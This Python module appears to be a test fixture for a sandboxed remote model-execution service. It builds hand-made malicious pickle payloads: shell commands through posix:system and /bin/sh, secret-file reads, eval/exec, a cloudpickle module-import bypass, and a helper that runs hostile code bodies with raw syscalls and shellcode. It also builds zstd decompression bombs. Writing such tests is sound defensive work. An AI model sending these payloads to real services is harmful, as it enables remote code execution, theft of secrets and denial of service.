"""What somebody submits who wants more than numbers: payloads that are attacks, and trace bodies.

`deed` is shipped to the job by its source, as a helper of any trace is.
"""

# ruff: noqa: S102, RET504 - bodies are executed in the job; a trace's names come back from it

from __future__ import annotations

import pickle
import struct
from typing import Any

import nnsight
import zstandard
from nnsight.modeling.transformers import TransformersModel


def deed(body: str, told: dict[str, Any]) -> bytes:
    """Run a hostile body with the vocabulary it is written in; gives what it calls loot."""
    import ctypes
    import mmap
    import os
    import platform
    import signal
    import socket
    import stat
    import struct
    import subprocess
    import sys
    import threading
    import time
    from types import SimpleNamespace

    import numpy as np
    import torch

    libc = ctypes.CDLL(None, use_errno=True)

    def syscall(number: int, *arguments: Any) -> int:
        wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
        return int(libc.syscall(ctypes.c_long(number), *wide))

    def address(area: Any) -> Any:
        return ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(area)))

    def call(area: Any) -> int:
        return int(ctypes.CFUNCTYPE(ctypes.c_int)(address(area).value)())

    def is_socket(fd: int) -> bool:
        try:
            return stat.S_ISSOCK(os.fstat(fd).st_mode)
        except OSError:
            return False

    traps = SimpleNamespace(**told)
    # In full, or it would ask the kernel what kind of socket it is.
    number = next(fd for fd in range(3, 64) if is_socket(fd))
    channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=number)
    codes = {"x86_64": "b82a000000c3", "aarch64": "40058052c0035fd6"}
    print("begun")
    names: dict[str, Any] = {
        "T": traps, "channel": channel, "loot": b"", "os": os, "sys": sys, "time": time,
        "socket": socket, "signal": signal, "struct": struct, "ctypes": ctypes, "mmap": mmap,
        "subprocess": subprocess, "threading": threading, "torch": torch, "np": np,
        "syscall": syscall, "address": address, "call": call,
        "CODE42": bytes.fromhex(codes.get(platform.machine(), "")),
        "proof": lambda: print(traps.nonce),
    }  # fmt: skip
    exec(compile(body, "<hostile>", "exec"), names)
    return names["loot"] if isinstance(names["loot"], bytes) else str(names["loot"]).encode()


def trace(model: TransformersModel, body: str, told: dict[str, Any]) -> Any:
    """A job that does `body`; what came back of it, None where nothing did."""
    loot = None
    with model.session():
        loot = nnsight.save(deed(body, told))
    return loot


def _calling(function: str, *arguments: Any) -> bytes:
    """Protocol 4, by hand: ``function(*arguments)`` is called as the payload is read."""
    module, _, name = function.partition(":")
    parts = [b"\x80\x04", _text(module), _text(name), b"\x93("]
    parts += [pickle.dumps(argument, 2)[2:-1] for argument in arguments]
    return b"".join([*parts, b"tR."])


def _after_a_module(function: str, *arguments: Any) -> bytes:
    """The same behind the name of what makes modules, from which on more is let through."""
    by_value = _text("cloudpickle.cloudpickle") + _text("dynamic_subimport") + b"\x930"
    return b"\x80\x04" + by_value + _calling(function, *arguments)[2:]


def _text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def payloads(told: dict[str, Any]) -> dict[str, bytes]:
    """Attacks by the payload itself, before any trace. Not compressed."""
    nonce, out, secret = told["nonce"], told["out"], told["secret_path"]
    return {
        "os_system": _calling("posix:system", f"echo {nonce} > {out}"),
        "popen": _calling("subprocess:check_output", ["/bin/sh", "-c", f"cat {secret}"]),
        "eval": _calling("builtins:eval", f"open({out!r}, 'w').write('x')"),
        "exec": _calling("builtins:exec", f"import os; os.mkdir({out!r})"),
        "open": _calling("builtins:open", out, "w"),
        "read_secret": _calling("io:open", secret),
        "dotted_torch": _calling("torch:os.system", f"touch {out}"),
        "dotted_nnsight": _calling("nnsight.intervention.envoy:torch.os.mkdir", out),
        "torch_load": _calling("torch:load", secret),
        "from_file": _calling("torch:from_file", out, True, 16),
        "import": _calling("cloudpickle.cloudpickle:subimport", "antigravity"),
        "code": _calling("types:CodeType", *[0] * 6),
        "runpy": _calling("runpy:run_path", secret),
        "socket": _calling("socket:create_connection", ("127.0.0.1", told["tcp"])),
        "kill": _calling("os:kill", told["victim"], 9),
        "fork": _calling("posix:fork"),
        "exit": _calling("posix:_exit", 0),
        "fill": _calling(
            "nnsight.intervention.serialization:_fill",
            {"a": 1}, {"b": 2},
        ),
        "endless": _calling("builtins:sum", range(10**12)),
        "huge_bytes": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b".",
        "huge_list": b"\x80\x04]" + b"(" * 10_000_000 + b"e.",
        "deep": b"\x80\x04" + b"]" * 5_000_000 + b"a" * 4_999_999 + b".",
        "persistent": b"\x80\x04" + _text("Module:model") + b"Q.",
        "foreign_id": b"\x80\x04" + _text("Module:os") + b"Q.",
        "after_a_module": _after_a_module("posix:system", f"echo {nonce} > {out}"),
        "class_after_a_module": _after_a_module("subprocess:Popen", ["/bin/sh", "-c", "id"]),
        "module": _calling("cloudpickle.cloudpickle:dynamic_subimport", "torch", {"load": 1}),
        "getattr": _calling("builtins:getattr", "", "__class__"),
        "nothing": b"",
        "noise": bytes(range(256)) * 64,
    }  # fmt: skip


def bombs() -> dict[str, bytes]:
    """Compressed payloads that are far larger inside."""
    zeros = zstandard.ZstdCompressor(level=3).compressobj()
    block = bytes(1 << 24)
    parts = [zeros.compress(block) for _ in range(256)]
    return {
        "four_gigabytes": b"".join([*parts, zeros.flush()]),
        "truncated": zstandard.compress(b"x" * 4096)[:-5],
        "lying_header": zstandard.FRAME_HEADER + b"\xe0" + struct.pack("<Q", 1 << 60) + bytes(32),
        "no_frame": b"\x00" * 64,
    }
